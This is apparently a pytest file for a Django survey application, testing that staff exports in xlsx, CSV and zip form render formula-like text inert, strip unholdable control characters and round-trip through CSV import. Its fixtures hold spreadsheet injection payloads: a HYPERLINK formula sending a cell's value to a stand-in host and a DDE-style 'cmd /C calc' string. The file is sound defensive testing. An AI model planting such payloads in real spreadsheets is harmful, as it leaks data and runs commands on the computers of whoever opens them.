"""Exports are safe to open (issue #13 point 7): text that would be a formula is
text in every .xlsx and carries an apostrophe in CSV (taken off again on import),
negative numbers stay numbers, and characters a spreadsheet cannot hold (stored
before they were refused at input) never break Rådata or Rådatapaket. Real export
requests through the staff pages, the files opened back with openpyxl and csv."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from intake.models import Answer, Response
from intake.services import save_answers
from reports.models import ExportJob, ExportStatus
from surveys.models import User
from tests.reports.conftest import EveryKind

pytestmark = pytest.mark.django_db

FORMULA_TEXT = '=HYPERLINK("http://example.invalid/?d="&A1,"Klicka")'
CONTACT_NAME = "@SUM(1+1)*cmd|' /C calc'!A0"
CONTACT_PHONE = "+46 70-123 45 67"
# As stored before input refused them: Word's manual line break, a form feed, a
# control character and U+FFFE.
UNHOLDABLE_TEXT = "Rad ett\x0bRad två\x0c med\x01 tecken\ufffe slut"


@pytest.fixture
def hostile(every_kind: EveryKind) -> EveryKind:
    kronoberg = every_kind.kronoberg
    save_answers(
        kronoberg,
        actor=every_kind.actor,
        channel="web",
        values={"q07_ovrigt": FORMULA_TEXT},
    )
    Response.objects.filter(pk=kronoberg.pk).update(
        contact_name=CONTACT_NAME, contact_phone=CONTACT_PHONE
    )
    # Old data, written before the rule: straight into the table.
    Answer.objects.filter(
        response=every_kind.sormland, question__variable="q01a_exempel"
    ).update(text=UNHOLDABLE_TEXT)
    return every_kind


def export(
    client: Client,
    every_kind: EveryKind,
    kind: str,
    fmt: str,
    capture: Any,
    options: str = "kontaktuppgifter=ja",
) -> bytes:
    with capture(execute=True):
        response = client.post(
            reverse("reports:export-list"),
            {
                "target": f"questionnaire:{every_kind.questionnaire.pk}",
                "kind": kind,
                "format": fmt,
                "options": options,
            },
        )
    assert response.status_code == 302
    job = ExportJob.objects.latest("pk")
    assert job.status == ExportStatus.DONE, job.__dict__
    download = client.get(reverse("reports:export-download", args=[job.pk]))
    assert download.status_code == 200
    return b"".join(download.streaming_content)  # type: ignore[attr-defined]


def xlsx_rows(content: bytes, sheet: str = "Rådata") -> list[list[Any]]:
    workbook = load_workbook(io.BytesIO(content))
    return [[c for c in row] for row in workbook[sheet].iter_rows()]


def by_org(rows: list[list[Any]], code: str, column: str) -> Any:
    header = [c.value if hasattr(c, "value") else c for c in rows[0]]
    for row in rows[1:]:
        first = row[0].value if hasattr(row[0], "value") else row[0]
        if str(first) == code:
            return row[header.index(column)]
    raise AssertionError(code)


def no_formula_in(content: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<(\w+:)?f[ >]", archive.read(name)), name


def test_rådata_xlsx_holds_formula_text_as_text_and_numbers_as_numbers(
    client: Client,
    staff_user: User,
    hostile: EveryKind,
    django_capture_on_commit_callbacks: Any,
) -> None:
    client.force_login(staff_user)
    content = export(
        client, hostile, "radata", "xlsx", django_capture_on_commit_callbacks
    )
    no_formula_in(content)
    rows = xlsx_rows(content)
    for column, expected in (
        ("q07_ovrigt", FORMULA_TEXT),
        ("kontakt_namn", CONTACT_NAME),
        ("kontakt_telefon", CONTACT_PHONE),
    ):
        cell = by_org(rows, "07", column)
        assert (cell.value, cell.data_type) == (expected, "s")
    # The escape answer and "not applicable" stay numbers (-3, -1).
    escaped = by_org(rows, "07", "q05_antal")
    assert (escaped.value, escaped.data_type) == (-3, "n")
    not_applicable = by_org(rows, "07", "q01a_exempel")
    assert (not_applicable.value, not_applicable.data_type) == (-1, "n")
    # The stored control characters are gone, the manual line break is a line break.
    assert by_org(rows, "04", "q01a_exempel").value == (
        "Rad ett\nRad två med tecken slut"
    )


def test_rådata_csv_neutralises_formulas_and_the_import_takes_the_mark_off(
    client: Client,
    staff_user: User,
    hostile: EveryKind,
    django_capture_on_commit_callbacks: Any,
) -> None:
    client.force_login(staff_user)
    content = export(
        client, hostile, "radata", "csv", django_capture_on_commit_callbacks
    )
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))
    assert by_org(rows, "07", "q07_ovrigt") == "'" + FORMULA_TEXT
    assert by_org(rows, "07", "kontakt_namn") == "'" + CONTACT_NAME
    assert by_org(rows, "07", "kontakt_telefon") == "'" + CONTACT_PHONE
    assert by_org(rows, "07", "q05_antal") == "-3"
    assert by_org(rows, "07", "q01a_exempel") == "-1"
    assert by_org(rows, "04", "q01a_exempel") == "Rad ett\nRad två med tecken slut"
    for row in rows:
        for value in row:
            assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]", value)

    # Our own CSV read back: the apostrophes come off, the answers are as entered.
    Response.objects.filter(questionnaire=hostile.questionnaire).delete()
    checked = client.post(
        reverse("reports:import-upload"),
        {
            "questionnaire": hostile.questionnaire.pk,
            "file": SimpleUploadedFile("radata.csv", content),
        },
    )
    assert "Filen är kontrollerad" in checked.content.decode()
    client.post(reverse("reports:import-confirm"))
    kronoberg = Response.objects.get(
        questionnaire=hostile.questionnaire, organisation__code="07"
    )
    assert (kronoberg.contact_name, kronoberg.contact_phone) == (
        CONTACT_NAME,
        CONTACT_PHONE,
    )
    assert kronoberg.answers.get(question__variable="q07_ovrigt").text == FORMULA_TEXT


def test_rådatapaket_is_made_and_every_file_in_it_is_safe(
    client: Client,
    staff_user: User,
    hostile: EveryKind,
    django_capture_on_commit_callbacks: Any,
) -> None:
    client.force_login(staff_user)
    content = export(
        client, hostile, "radatapaket", "zip", django_capture_on_commit_callbacks
    )
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        names = archive.namelist()
        xlsx_names = [n for n in names if n.endswith(".xlsx")]
        csv_names = [n for n in names if n.endswith(".csv")]
        assert xlsx_names and csv_names
        for name in xlsx_names:
            part = archive.read(name)
            no_formula_in(part)
            load_workbook(io.BytesIO(part))  # opens
        for name in csv_names:
            text = archive.read(name).decode("utf-8-sig")
            assert "\ufffe" not in text and "\x0c" not in text
            for row in csv.reader(io.StringIO(text), delimiter=";"):
                for value in row:
                    assert not value.startswith(("=", "@", "+")), (name, value)
